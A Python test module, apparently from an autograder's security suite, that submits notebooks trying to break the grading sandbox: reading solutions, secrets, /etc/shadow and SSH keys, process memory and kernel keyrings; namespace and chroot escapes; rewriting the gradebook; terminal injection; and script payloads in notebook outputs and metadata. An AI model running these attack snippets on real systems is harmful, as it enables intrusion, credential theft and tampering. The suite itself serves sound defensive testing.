"""Out of the sandbox: files, secrets, processes and the network of the machine that grades.

Everything is solved, so all points are due. Each of these prints whatever canary it can lay hands
on, and whoever runs the class looks for the canaries in all that comes back.
"""

# ruff: noqa: E501 (the long lines are those of notebooks)

import json

from tests.attacks import marks
from tests.attacks.corpus import FULL, GUARD, Between, Work, full_but, search, submission

LAST = "attention_backward"
BEGIN = r"### BEGIN" + r" SOLUTION"

# Where a course may be: parents of every folder that the process knows of.
PLACES = """
    import os, sys
    def places():
        known = [os.getcwd(), os.path.expanduser("~"), "/work", "/srv", "/home", "/root", "/mnt", "/tmp"]
        known += [p for p in sys.path if p] + list(os.environ.values())
        for name in list(known):
            while name.startswith("/") and len(name) > 1:
                name = os.path.dirname(name)
                known.append(name)
        return [p for p in dict.fromkeys(known) if os.path.isdir(p)]
    """


@submission(hides=BEGIN)
def reads_solutions(work: Work) -> None:
    """Prints the instructor's notebook."""
    work.after(
        LAST,
        PLACES,
        """
        import glob
        for place in places():
            for path in glob.glob(os.path.join(place, "solutions", "*", "*")):
                try:
                    print(open(path).read()[:20_000])
                except OSError as error:
                    print(error)
        """,
    )


@submission()
def reads_the_gradebook(work: Work) -> None:
    """Opens every SQLite database that it can find, and prints its tables."""
    work.after(
        LAST,
        PLACES,
        """
        import glob, sqlite3
        for place in places():
            for path in glob.glob(os.path.join(place, "**", "*.db"), recursive=place not in "/"):
                try:
                    for line in sqlite3.connect(path).iterdump():
                        print(line)
                except (sqlite3.Error, OSError) as error:
                    print(path, error)
        """,
    )


@submission()
def reads_the_secret(work: Work) -> None:
    """Looks for the seed of the hidden cases: in the environment, and in the course's folder."""
    work.after(
        LAST,
        PLACES,
        """
        print(os.environ.get("TUTOR_GRADING_SECRET"))
        for place in places():
            try:
                print(open(os.path.join(place, ".grading-secret")).read())
            except OSError:
                pass
        """,
    )


@submission()
def reads_the_environment(work: Work) -> None:
    """Prints the environment of the process, as Python, libc and the kernel know it."""
    work.after(
        LAST,
        """
        import ctypes, os
        print(dict(os.environ))
        environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
        index = 0
        while environ and environ[index]:
            print(environ[index])
            index += 1
        try:
            print(open("/proc/self/environ", "rb").read())
        except OSError as error:
            print(error)
        """,
    )


@submission()
def reads_other_submissions(work: Work) -> None:
    """Prints what the others have handed in."""
    work.after(
        LAST,
        PLACES,
        """
        import glob
        here = os.getcwd()
        for place in {*places(), *(os.path.join(here, *[".."] * n) for n in range(1, 8))}:
            for step in ("submitted", "autograded", "feedback"):
                for path in glob.glob(os.path.join(place, step, "*", "*", "*")):
                    try:
                        print(path, open(path, errors="replace").read()[:20_000])
                    except OSError as error:
                        print(error)
        """,
    )


@submission()
def reads_other_processes(work: Work) -> None:
    """Prints environment, command line, open files and working folder of every process."""
    work.after(
        LAST,
        search(),
        """
        import glob, os
        for process in glob.glob("/proc/[0-9]*"):
            for name in ("environ", "cmdline", "status", "maps", "mountinfo", "stack", "syscall"):
                try:
                    print(process, found(open(os.path.join(process, name), "rb").read()))
                except OSError as error:
                    print(error)
            for link in glob.glob(process + "/fd/*") + [process + "/cwd", process + "/root"]:
                try:
                    print(link, os.readlink(link))
                    if os.path.isdir(link):
                        print(os.listdir(link), found(" ".join(os.listdir(link))))
                except OSError as error:
                    print(error)
        """,
    )


@submission()
def reads_through_proc(work: Work) -> None:
    """Reaches the machine's files through the root, working folder and descriptors in /proc."""
    work.after(
        LAST,
        search(),
        """
        import glob, os
        roots = glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd") + glob.glob("/proc/*/fd/*")
        roots += glob.glob("/proc/*/task/*/root") + ["/proc/thread-self/root"]
        for root in roots:
            for up in ("", "/..", "/../..", "/../../.."):
                try:
                    for name in os.listdir(root + up):
                        path = f"{root}{up}/{name}"
                        if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                            print(*found(open(path, "rb").read()), end="")
                except OSError:
                    pass
        """,
    )


@submission()
def reads_everything(work: Work) -> None:
    """Walks the whole file system and greps every file that it may open."""
    work.after(
        LAST,
        search(),
        """
        import os, time
        until = time.monotonic() + 2
        def walk(root):
            for folder, folders, files in os.walk(root):
                folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages", "dist-packages")]
                print(*found(folder), end="")
                for name in files:
                    if time.monotonic() > until:
                        return
                    path = os.path.join(folder, name)
                    try:
                        if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                            print(*found(name), *found(open(path, "rb").read()), end="")
                    except OSError:
                        pass
        for root in ("/work", "/root", "/home", "/srv", "/tmp", "/run", "/var/tmp", "/dev/shm", "/etc",
                     os.getcwd(), os.path.expanduser("~"), "/"):
            walk(root)
        """,
    )


@submission()
def reads_inherited_descriptors(work: Work) -> None:
    """Reads, lists and climbs out of every descriptor that the process was born with."""
    work.after(
        LAST,
        search(),
        """
        import os
        for fd in range(3, 1024):
            try:
                os.fstat(fd)
            except OSError:
                continue
            try:
                print(fd, os.readlink(f"/proc/self/fd/{fd}"))
                print(found(os.pread(fd, 1 << 20, 0)))
            except OSError:
                pass
            for up in (".", "..", "../..", "../../.."):
                try:
                    there = os.open(up, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                    print(found(" ".join(os.listdir(there))))
                    for name in os.listdir(there):
                        print(*found(os.read(os.open(name, os.O_RDONLY | os.O_NONBLOCK, dir_fd=there), 9999)), end="")
                except OSError:
                    pass
        """,
    )


@submission()
def reads_devices(work: Work) -> None:
    """Opens the machine's memory, disks and log, and makes devices of its own."""
    work.after(
        LAST,
        GUARD,
        search(),
        """
        import ctypes, glob, os, stat
        paths = ["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/kmsg", "/proc/kallsyms"]
        paths += glob.glob("/dev/[svx]d*") + glob.glob("/dev/nvme*") + glob.glob("/dev/dm-*")
        for number in ((1, 1), (8, 0), (254, 0), (259, 0)):
            try:
                path = f"/tmp/device{number[0]}"
                os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(*number))
                paths.append(path)
            except OSError as error:
                print(error)
        for path in paths:
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                print(path, found(os.read(fd, 1 << 22)))
            except OSError as error:
                print(path, error)
        log = ctypes.create_string_buffer(1 << 18)
        ctypes.CDLL(None).klogctl(3, log, len(log))
        print(found(log.raw))
        """,
    )


@submission(hides="this process (has capabilities|is root)")
def reads_private_files(work: Work) -> None:
    """Opens what only root may read: a grader that runs as root must not lend its rights."""
    work.after(
        LAST,
        """
        import os
        for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/etc/ssl/private", "/root/.bash_history",
                     "/proc/1/environ", "/var/lib/postgresql", "/root/.netrc", "/root/.pgpass"):
            try:
                print(path, os.listdir(path) if os.path.isdir(path) else open(path).read())
            except OSError as error:
                print(error)
        print(os.getuid(), os.geteuid(), os.getgroups())
        """,
        """
        import ctypes
        header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
        ctypes.CDLL(None).capget(header, data)
        if any(data):
            print("this process " + "has capabilities")
        if os.getuid() == 0:
            print("this process " + "is root")
        """,
    )


@submission()
def reads_memory_of_others(work: Work) -> None:
    """Attaches to every process that it sees, its parents first, and searches their memory."""
    work.after(
        LAST,
        GUARD,
        search(),
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())}:
            if pid == os.getpid():
                continue
            PTRACE_ATTACH, PTRACE_DETACH = 16, 17
            if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
                print(pid, "attached")
                os.waitpid(pid, 0x40000000)
            try:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for line in maps:
                        if "rw-p" in line:
                            low, high = (int(x, 16) for x in line.split()[0].split("-"))
                            memory.seek(low)
                            print(*found(memory.read(min(high - low, 1 << 24))), end="")
            except (OSError, ValueError, OverflowError) as error:
                print(pid, error)
            libc.ptrace(PTRACE_DETACH, pid, 0, 0)
        """,
    )


@submission()
def reads_own_memory(work: Work) -> None:
    """Searches the memory that a fork inherits for what the grader knew when it forked."""
    work.after(
        LAST,
        search(),
        """
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                if " rw-p " in line:
                    low, high = (int(x, 16) for x in line.split()[0].split("-"))
                    try:
                        memory.seek(low)
                        print(*set(found(memory.read(min(high - low, 1 << 26)))), end="")
                    except (OSError, ValueError, OverflowError):
                        pass
        """,
    )


@submission()
def reads_the_kernels_keys(work: Work) -> None:
    """Looks for secrets in the kernel's keyrings, which no mount namespace hides."""
    work.after(
        LAST,
        search(),
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        READ = 11
        try:
            print(open("/proc/keys").read())
        except OSError as error:
            print(error)
        buffer = ctypes.create_string_buffer(1 << 16)
        keys = [-1, -2, -3, -4, -5]
        for key in keys:
            size = libc.syscall(250, READ, key, buffer, len(buffer))
            if size > 0:
                data = buffer.raw[:size]
                print(key, data, found(data))
                if key < 0:
                    keys += [int.from_bytes(data[i:i + 4], "little") for i in range(0, size, 4)]
        """,
    )


@submission(hides="made a namespace|mounted something")
def escapes_by_namespaces(work: Work) -> None:
    """Makes namespaces of its own and mounts what it likes: the machine's root among it."""
    work.after(
        LAST,
        GUARD,
        search(),
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        NEWUSER, NEWNS, NEWPID, NEWNET = 0x10000000, 0x20000, 0x20000000, 0x40000000
        child = os.fork()
        if child == 0:
            for flags in (NEWUSER | NEWNS | NEWPID, NEWUSER, NEWNS, NEWNET):
                if libc.unshare(flags) == 0:
                    print("made a" + " namespace", flags)
            for pid in os.listdir("/proc") if os.path.isdir("/proc") else ():
                for kind in ("user", "mnt", "pid", "net"):
                    try:
                        libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
                    except OSError:
                        pass
            os.makedirs("/tmp/inside", exist_ok=True)
            for source, kind in ((b"proc", b"proc"), (b"/dev/sda1", b"ext4"), (b"none", b"sysfs"), (b"none", b"cgroup2"), (b"none", b"overlay")):
                if libc.mount(source, b"/tmp/inside", kind, 0, None) == 0:
                    print("mounted" + " something", kind)
            for folder in (b"/tmp", b"/proc", b"/work", b"/usr", b"/"):
                if libc.umount2(folder, 2) == 0 or libc.mount(None, folder, None, 0x20 | 0x1000, None) == 0:
                    print("mounted" + " something", folder)
            print(libc.pivot_root(b"/tmp", b"/tmp/inside") if hasattr(libc, "pivot_root") else "")
            try:
                there = os.open("/", os.O_RDONLY)
                os.chroot("/tmp/inside")
                os.fchdir(there)
                for _ in range(20):
                    os.chdir("..")
                os.chroot(".")
            except OSError as error:
                print(error)
            for folder, folders, files in os.walk("/"):
                folders[:] = [f for f in folders if f not in ("usr", "sys", "site-packages")][:50]
                for name in files[:200]:
                    try:
                        path = os.path.join(folder, name)
                        if os.path.isfile(path) and os.path.getsize(path) < 1 << 16:
                            print(*found(open(path, "rb").read()), end="")
                    except OSError:
                        pass
                if folder.count("/") > 4:
                    folders.clear()
            os._exit(0)
        os.waitpid(child, 0)
        """,
    )


@submission()
def escapes_by_handles(work: Work) -> None:
    """System calls that reach around names: handles of files, BPF, performance events, io_uring."""
    work.after(
        LAST,
        GUARD,
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(4096)
        calls = {
            "open_by_handle_at": (304, -100, buffer, 0), "name_to_handle_at": (303, -100, b"/", buffer, buffer, 0),
            "bpf": (321, 0, buffer, 128), "perf_event_open": (298, buffer, 0, -1, -1, 0),
            "io_uring_setup": (425, 8, buffer), "userfaultfd": (323, 0), "kexec_load": (246, 0, 0, 0, 0),
            "init_module": (175, buffer, 16, b""), "keyctl": (250, 0, 0, 0), "add_key": (248, b"user", b"left-by-an-" + b"attack", b"x", 1, -4),
            "clone3": (435, buffer, 88), "mount_setattr": (442, -100, b"/", 0, buffer, 32), "open_tree": (428, -100, b"/", 1),
            "move_mount": (429, -100, b"/", -100, b"/tmp", 0), "fsopen": (430, b"tmpfs", 0), "pidfd_open": (434, os.getppid(), 0),
            "process_vm_writev": (311, os.getppid(), buffer, 1, buffer, 1, 0), "kcmp": (312, 1, os.getpid(), 0, 0, 0),
            "quotactl": (179, 0, b"/", 0, buffer), "swapon": (167, b"/tmp", 0),
        }
        for name, arguments in calls.items():
            if os.fork() == 0:
                ctypes.set_errno(0)
                print(name, libc.syscall(*arguments), os.strerror(ctypes.get_errno()), flush=True)
                os._exit(0)
            os.wait()
        """,
    )


@submission(hides="a page is in memory")
def reads_which_pages_are_in_memory(work: Work) -> None:
    """Leaves a message by the pages of a file that it reads, and asks which of them are in memory."""
    work.after(
        LAST,
        """
        import ctypes, mmap, os
        libc = ctypes.CDLL(None, use_errno=True)
        fd = os.open(torch.__file__, os.O_RDONLY)
        os.pread(fd, 4096, 0)
        buffer, ranges = ctypes.create_string_buffer(4096), (ctypes.c_uint64 * 2)(0, 4096)
        vector = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 4096)
        libc.mmap.restype = ctypes.c_void_p
        page = ctypes.c_void_p(libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, fd, 0))
        asked = {
            "preadv2": (327, fd, vector, 1, 0, 0, 8), "mincore": (27, page, 4096, buffer),
            "cachestat": (451, fd, ranges, buffer, 0), "readahead": (187, fd, 0, 4096),
            "fadvise64": (221, fd, 0, 4096, 4),
        }
        for name, arguments in asked.items():
            if libc.syscall(*arguments) >= 0:
                print(name, "says: a page" + " is in memory")
        """,
    )


@submission(hides="made a namespace")
def escapes_by_another_abi(work: Work) -> None:
    """Makes system calls by the numbers of 32-bit programs, which a filter may have forgotten."""
    work.after(
        LAST,
        GUARD,
        """
        import ctypes, mmap, os
        def run(code):
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            page.write(code)
            address = ctypes.addressof(ctypes.c_char.from_buffer(page))
            return ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        NEWUSER = 0x10000000
        unshare = b"\\xb8" + (310).to_bytes(4, "little") + b"\\xbb" + NEWUSER.to_bytes(4, "little")
        x32 = b"\\xbf" + NEWUSER.to_bytes(4, "little") + b"\\xb8" + (0x40000000 + 272).to_bytes(4, "little")
        for code in (b"\\x53" + unshare + b"\\xcd\\x80\\x5b\\xc3", x32 + b"\\x0f\\x05\\xc3"):
            reader, writer = os.pipe()
            child = os.fork()
            if child == 0:
                os.write(writer, b"done" if run(code) == 0 else b"refused")
                os._exit(0)
            os.waitpid(child, 0)
            os.close(writer)
            if os.read(reader, 10) == b"done":
                print("made a" + " namespace")
        """,
    )


@submission(points=full_but(attention_backward=Between(0, FULL[LAST])))
def inherits_a_descriptor(work: Work) -> None:
    """Receives on every socket, in case somebody passes it an open file; whoever else waits there
    may be woken for nothing."""
    work.after(
        LAST,
        search(),
        """
        import os, socket, stat
        for fd in range(3, 256):
            try:
                if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                    continue
                twin = socket.socket(fileno=os.dup(fd))
                twin.setblocking(False)
                data, fds, _, peer = socket.recv_fds(twin, 1, 16, socket.MSG_PEEK)
                print(fd, peer, fds)
                for f in fds:
                    print(found(os.pread(f, 1 << 20, 0)))
            except (OSError, ValueError) as error:
                print(fd, error)
        """,
    )


# Network


@submission()
def connects_by_address(work: Work) -> None:
    """Connects to the port on which the class listens, by every way to write loopback."""
    work.after(
        LAST,
        f"""
        import socket
        for family, host in (
            (socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "127.1.2.3"), (socket.AF_INET, "0.0.0.0"),
            (socket.AF_INET6, "::1"), (socket.AF_INET6, "::ffff:127.0.0.1"),
        ):
            try:
                s = socket.socket(family, socket.SOCK_STREAM)
                s.settimeout(0.3)
                s.connect((host, {marks.PORT}))
                s.sendall(b"{marks.LEFT}")
                print("connected to", host)
            except OSError as error:
                print(host, error)
            try:
                socket.socket(family, socket.SOCK_DGRAM).sendto(b"{marks.LEFT}", (host, {marks.PORT}))
            except OSError as error:
                print(host, error)
        """,
    )


@submission()
def connects_by_name(work: Work) -> None:
    """Asks for localhost by name, through libc and by the libraries that a student would use."""
    work.after(
        LAST,
        f"""
        import socket, urllib.request
        for host in ("localhost", "localhost.localdomain", "ip6-localhost", socket.gethostname()):
            try:
                socket.create_connection((host, {marks.PORT}), 0.3).sendall(b"{marks.LEFT}")
                print("connected to", host)
            except OSError as error:
                print(host, error)
        try:
            print(urllib.request.urlopen("http://localhost:{marks.PORT}/", timeout=0.3).read())
        except OSError as error:
            print(error)
        """,
    )


@submission()
def connects_to_an_abstract_socket(work: Work) -> None:
    """Connects to a unix socket that has no file: no mount namespace hides it."""
    work.after(
        LAST,
        f"""
        import socket
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(0.3)
        s.connect({marks.ABSTRACT!r})
        s.sendall(b"{marks.LEFT}")
        """,
    )


@submission()
def connects_to_a_socket_file(work: Work) -> None:
    """Connects to every unix socket that it finds in the file system."""
    work.after(
        LAST,
        PLACES,
        f"""
        import glob, socket
        for place in [*places(), "/run", "/var/run", "/tmp", "/var/run/docker.sock"]:
            for path in {{*glob.glob(place + "/*.socket"), *glob.glob(place + "/*.sock"), place + "/{marks.SOCKET}"}}:
                try:
                    s = socket.socket(socket.AF_UNIX)
                    s.settimeout(0.3)
                    s.connect(path)
                    s.sendall(b"{marks.LEFT}")
                    print("connected to", path)
                except OSError as error:
                    print(path, error)
        """,
    )


@submission()
def connects_from_the_graded_function(work: Work) -> None:
    """Tells the outside, from within the function that the judge calls, what it is asked."""
    work.write(
        "causal_mask",
        f"""
        import socket
        def causal_mask(num_queries, num_keys, device=None):
            for family, address in (
                (socket.AF_INET, ("127.0.0.1", {marks.PORT})), (socket.AF_UNIX, {marks.ABSTRACT!r}),
            ):
                try:
                    with socket.socket(family) as s:
                        s.settimeout(0.1)
                        s.connect(address)
                        s.sendall(b"{marks.LEFT}")
                except OSError:
                    pass
            position = torch.arange(num_queries, device=device) + (num_keys - num_queries)
            return torch.arange(num_keys, device=device) <= position[:, None]
        """,
    )


@submission()
def listens_for_others(work: Work) -> None:
    """Opens ports and sockets of its own and waits for another submission to call."""
    work.after(
        LAST,
        """
        import socket
        for family, address in (
            (socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_UNIX, "\\0" + "left-by-an-" + "attack"),
            (socket.AF_UNIX, "/tmp/" + "left-by-an-" + "attack"),
        ):
            try:
                s = socket.socket(family)
                s.bind(address)
                s.listen()
                s.setblocking(False)
                globals()[f"listener_{family}"] = s
            except OSError as error:
                print(error)
        """,
    )


# Writing


@submission()
def overwrites_everything(work: Work) -> None:
    """Writes into every folder, and over, or in the place of, every file that holds a canary."""
    work.after(
        LAST,
        GUARD,
        search(),
        PLACES,
        """
        import time
        until = time.monotonic() + 2
        left = "left-by-an-" + "attack"
        for root in [*places(), "/usr", "/etc", "/var", "/opt", "/dev", "/proc/1/root", "/"]:
            for folder, folders, files in os.walk(root):
                folders[:] = [f for f in folders if f not in ("proc", "sys")]
                if time.monotonic() > until:
                    break
                try:
                    with open(os.path.join(folder, left), "w") as file:
                        file.write(left)
                except OSError:
                    pass
                for name in files:
                    path = os.path.join(folder, name)
                    if "canary" not in name:
                        continue
                    for act in (os.remove, lambda p: open(p, "w").write("gone"), lambda p: os.chmod(p, 0)):
                        try:
                            act(path)
                            print("changed", path)
                        except OSError:
                            pass
        """,
    )


@submission()
def changes_the_gradebook(work: Work) -> None:
    """Gives itself full marks where the marks are kept."""
    work.after(
        LAST,
        GUARD,
        PLACES,
        """
        import glob, sqlite3
        for place in places():
            for path in glob.glob(os.path.join(place, "**", "gradebook.db"), recursive=place != "/"):
                if "attacks" in path:
                    with sqlite3.connect(path, timeout=0.1) as book:
                        book.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
                        print("changed", path)
        """,
    )


@submission()
def changes_the_course(work: Work) -> None:
    """Adds a file to the interpreter, the packages, the course, and to what starts with Python."""
    work.after(
        LAST,
        GUARD,
        """
        import os, site, sys, sysconfig
        left = "left-by-an-" + "attack"
        folders = [*sys.path, sys.prefix, sys.base_prefix, *sysconfig.get_paths().values(), os.getcwd()]
        folders += [site.getusersitepackages(), os.path.expanduser("~/.ipython/profile_default/startup")]
        for module in list(sys.modules.values()):
            if getattr(module, "__file__", None):
                folders.append(os.path.dirname(module.__file__))
        for folder in dict.fromkeys(folders):
            try:
                with open(os.path.join(folder, left + ".pth"), "w") as file:
                    print("wrote", file.name)
            except OSError as error:
                pass
        """,
    )


@submission()
def leaves_a_message(work: Work) -> None:
    """Leaves something for the next student, wherever two processes may meet."""
    work.after(
        LAST,
        """
        import ctypes, mmap, os
        left = "left-by-an-" + "attack"
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", os.path.expanduser("~"), os.getcwd(), "/dev/mqueue"):
            try:
                with open(os.path.join(folder, left), "w") as file:
                    file.write(left)
            except OSError as error:
                print(error)
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        segment = libc.shmget(0x47, 4096, 0o1600)
        address = libc.shmat(segment, None, 0)
        if address not in (None, 2**64 - 1):
            ctypes.memmove(address, left.encode(), len(left))
        queue = libc.msgget(0x47, 0o1600)
        libc.msgsnd(queue, (1).to_bytes(8, "little") + left.encode(), len(left), 0o4000)
        torch.left = torch.Tensor.left = left
        os.environ["LEFT"] = left
        """,
    )


@submission(hides=r"a message from before: left")
def yields_to_a_message(work: Work) -> None:
    """Looks wherever two processes may meet for what an earlier student has left there."""
    work.at_the_start(
        """
        import ctypes, glob, os
        left = "left-by-an-" + "attack"
        def report(where, what):
            print("a message from" + " before:", what, "in", where)
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", os.path.expanduser("~"), os.getcwd(), "/dev/mqueue"):
            for path in glob.glob(folder + "/" + left + "*"):
                report(path, left)
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        address = libc.shmat(libc.shmget(0x47, 4096, 0o600), None, 0x1000)
        if address not in (None, 2**64 - 1):
            report("shared memory", ctypes.string_at(address, len(left)).decode())
        buffer = ctypes.create_string_buffer(4096)
        if libc.msgrcv(libc.msgget(0x47, 0o600), buffer, 4000, 0, 0o4000) > 0:
            report("a message queue", buffer.raw[8:8 + len(left)].decode())
        import torch
        for holder in (torch, torch.Tensor):
            if hasattr(holder, "left"):
                report(holder, left)
        if "LEFT" in os.environ:
            report("the environment", left)
        if os.path.exists("/proc"):
            others = [p for p in os.listdir("/proc") if p.isdigit()]
            if len(others) > 40:
                report(f"{len(others)} processes", left)
        """,
    )


@submission()
def pushes_into_the_terminal(work: Work) -> None:
    """Looks for the terminal of whoever grades, to type a line there."""
    work.after(
        LAST,
        GUARD,
        """
        import fcntl, os, termios
        for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/1/fd/0", "/proc/1/fd/1"):
            try:
                fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
                for letter in "#":
                    fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())
                print("typed into", path)
            except OSError as error:
                print(path, error)
        """,
    )


@submission()
def scripts_in_the_feedback(work: Work) -> None:
    """Puts scripts where an instructor opens them: into outputs of every kind."""
    halves = repr(marks.SCRIPT[:7]) + " " + repr(marks.SCRIPT[7:])
    work.after(
        LAST,
        f"""
        from IPython.display import HTML, Javascript, Markdown, display
        script = {halves}
        display(HTML(script), Javascript("document.title = 1"), Markdown(script))
        print(script)
        print("\\x1b[31m" + script + "\\x1b[0m")
        kinds = ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript",
                 "image/png", "image/jpeg", "application/json", "application/vnd.jupyter.widget-view+json")
        for kind in kinds:
            for data in (script, "<svg>" + script + "</svg>", '">' + script, "'>" + script):
                display({{kind: data}}, raw=True, metadata={{kind: {{"width": '">' + script}}}})
        raise type("E", (Exception,), {{"__module__": script, "__qualname__": script}})(script)
        """,
    )


@submission()
def scripts_in_metadata(work: Work) -> None:
    """Puts scripts into names that a page is made of: tags, ids, titles, languages, authors."""
    script = '">' + marks.SCRIPT
    notebook = json.loads(work.text())
    notebook["metadata"] |= {
        "title": script, "authors": [{"name": script}], "widgets": {script: script},
        "kernelspec": {"name": script, "display_name": script, "language": script},
        "language_info": {"name": script, "pygments_lexer": script, "file_extension": script},
    }  # fmt: skip
    for n, cell in enumerate(notebook["cells"]):
        cell["metadata"] |= {"tags": [script], "name": script, "jupyter": {script: script}}
        if n % 2:
            cell["id"] = script
    notebook["cells"].insert(
        1, {"cell_type": "markdown", "source": script, "metadata": {}, "id": "a"}
    )
    notebook["cells"].insert(1, {"cell_type": "raw", "source": script, "metadata": {}, "id": "b"})
    work.place = json.dumps(notebook).encode()


@submission(points=full_but(padding_mask=0))
def scripts_in_the_report(work: Work) -> None:
    """An exception whose type, message, function and line are scripts: the report quotes it."""
    halves = repr(marks.SCRIPT[:7]) + " " + repr(marks.SCRIPT[7:])
    work.write(
        "padding_mask",
        f"""
        script = {halves}
        def padding_mask(lengths, num_keys):
            raise type(script, (Exception,), {{}})(script)
        padding_mask.__code__ = padding_mask.__code__.replace(co_name=script, co_qualname=script)
        """,
    )


# The hidden inputs

_SEEN = """
    seen = []
    def stable_softmax(scores, dim=-1):
        if not torch.autograd._profiler_enabled():  # where it is counted it would cost points
            seen.append(str(scores.detach().flatten().tolist()[:6]))
        e = (scores - scores.amax(dim, keepdim=True)).exp()
        return e / e.sum(dim, keepdim=True)
    """
_A_NUMBER = r"SAW[^\n\"<]*\d\.\d"


@submission(points=full_but(stable_softmax=0), says="ValueError: SAW", hides=_A_NUMBER)
def inputs_in_a_message(work: Work) -> None:
    """The graded function raises an exception that quotes what it was given."""
    work.write(
        "stable_softmax",
        """
        def stable_softmax(scores, dim=-1):
            raise ValueError("SAW" + " " + str(scores.flatten().tolist()[:9]))
        """,
    )


@submission(points=full_but(stable_softmax=0), hides=r"SAW|0x1\.")
def inputs_in_names(work: Work) -> None:
    """They are the name of the exception, of the function in which it was raised, and its line."""
    work.write(
        "stable_softmax",
        """
        import linecache
        def stable_softmax(scores, dim=-1):
            told = "SA" + "W" + "".join(float(x).hex() for x in scores.flatten()[:3])
            def inner():
                raise type(told, (Exception,), {})(told)
            inner.__code__ = inner.__code__.replace(co_name=told, co_qualname=told, co_filename=told)
            linecache.cache[told] = 99, None, [told + "\\n"] * 99, told
            inner()
        """,
    )


@submission(
    points=full_but(causal_mask=0), says="There is no function causal_mask", hides=_A_NUMBER
)
def inputs_in_the_next_report(work: Work) -> None:
    """A cell after a check raises what was seen in it: why the next function is not there."""
    work.write("stable_softmax", _SEEN)
    work.write(
        "causal_mask",
        """
        raise ValueError("SAW" + " " + "".join(seen))
        def causal_mask(num_queries, num_keys, device=None):
            return None
        """,
    )


@submission(hides=_A_NUMBER)
def inputs_in_a_later_output(work: Work) -> None:
    """A cell after a check prints, shows and raises what was seen in it."""
    work.write("stable_softmax", _SEEN)
    work.behind_check("stable_softmax", "print('SAW', seen[:1])\n['SAW', seen[:1]]")
    work.at_the_end("raise ValueError('SAW ' + ''.join(seen))")
